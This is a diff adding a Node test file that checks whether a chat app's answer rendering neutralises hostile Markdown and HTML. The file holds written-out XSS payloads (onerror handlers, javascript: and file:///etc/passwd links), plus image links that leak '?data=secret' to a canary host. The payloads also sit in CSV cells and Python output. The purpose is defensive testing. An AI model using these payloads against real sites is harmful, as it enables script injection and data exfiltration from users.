@@ -1,0 +1,79 @@
+// An answer that wants to load pictures, run scripts or lead away: it stays text, and nothing is requested.
+
+import { after, before, test } from "node:test";
+import assert from "node:assert/strict";
+import { addFile, openPage, startBrowser } from "../support/browser.mjs";
+import { startCanary } from "../support/canary.mjs";
+import { ask, choose, id, unfold } from "../support/person.mjs";
+import { startServer } from "../support/server.mjs";
+import { MODEL, python, startUpstream } from "../support/upstream.mjs";
+
+let upstream, server, browser, page, canary;
+
+before(async () => {
+  canary = await startCanary();
+  upstream = await startUpstream();
+  server = await startServer({ model: upstream.model });
+  browser = await startBrowser();
+  page = await openPage(browser, server.url);
+  await choose(page, MODEL);
+});
+
+after(async () => {
+  await browser?.close();
+  await server?.stop();
+  await upstream?.stop();
+  await canary?.stop();
+});
+
+test("hostile Markdown makes no element and no request", async () => {
+  const text = [
+    `![a picture](${canary.url}/a.png?data=secret)`,
+    `![relative](/runtime/x?data=secret) ![data](data:image/svg+xml,<svg onload="window.pwned=1">)`,
+    `<img src="${canary.url}/b.png" onerror="window.pwned=1"><script>window.pwned=1</script>`,
+    `<iframe src="${canary.url}"></iframe><style>@import "${canary.url}/c.css";</style>`,
+    `[click](javascript:window.pwned=1) [vb](vbscript:x) [data](data:text/html,<script>1</script>) [file](file:///etc/passwd)`,
+    `<javascript:window.pwned=1> <${canary.url}/auto> [ref]: ${canary.url}`,
+    `[out](${canary.url}/honest) ok`,
+    "```html\n<script>window.pwned=1</script>\n```",
+    `| <img src=x onerror=window.pwned=1> |\n|---|\n| <b onclick=window.pwned=1>x</b> |`,
+  ].join("\n\n");
+  upstream.script({ text });
+  const before = page.sent.length;
+  const turn = await ask(page, "show me everything");
+  const answer = turn.locator(id("answer"));
+  assert.match(await answer.innerText(), /ok/);
+  assert.deepEqual(
+    await answer.evaluate((element) => Array.from(element.querySelectorAll("img, script, iframe, style, link, object, embed, svg image, form, [onerror], [onclick], [style]"), (found) => found.outerHTML)),
+    [],
+  );
+  const links = await answer.evaluate((element) => Array.from(element.querySelectorAll("a"), ({ href, rel, target }) => ({ href, rel, target })));
+  for (const link of links) {
+    assert.match(link.href, /^(https?|mailto):/);
+    assert.match(link.rel, /noopener|noreferrer/);
+    assert.equal(link.target, "_blank");
+  }
+  assert.ok(links.some(({ href }) => href.endsWith("/honest")), "an honest link stays a link");
+  assert.equal(await page.evaluate(() => window.pwned), undefined);
+  assert.deepEqual(page.sent.slice(before).map(({ url }) => url), [`${server.url}/v1/chat/completions`]);
+  assert.equal(canary.touched(), 0);
+});
+
+test("hostile cells, names and output make no element either", async () => {
+  const evil = `<img src=${canary.url}/cell onerror=window.pwned=1>`;
+  await addFile(page, `${evil.replaceAll("/", "_")}.csv`, `"${evil}",n\n"${evil}",1\n`);
+  await page.locator(id("file-profile")).waitFor();
+  upstream.script(
+    { calls: [python(`import pandas as pd, sys\ne = ${JSON.stringify(evil)}\nprint(e)\nprint(e, file=sys.stderr)\npd.DataFrame({e: [e]})`, evil)] },
+    { calls: [python(`raise ValueError(e)`)] },
+    { calls: [python(`class Evil:\n    def _repr_html_(self): return e\n    def __repr__(self): return e\nEvil()`)] },
+    { calls: [python(`import matplotlib.pyplot as plt\nplt.title(e)\nplt.plot([1])`)] },
+    { text: "Done." },
+  );
+  const turn = await ask(page, evil);
+  await unfold(turn);
+  assert.match(await turn.textContent(), /onerror/);
+  assert.equal(await page.locator('img:not([src^="data:image/png;base64,"]):not([src^="blob:"])').count(), 0);
+  assert.equal(await page.evaluate(() => window.pwned), undefined);
+  assert.equal(canary.touched(), 0);
+});
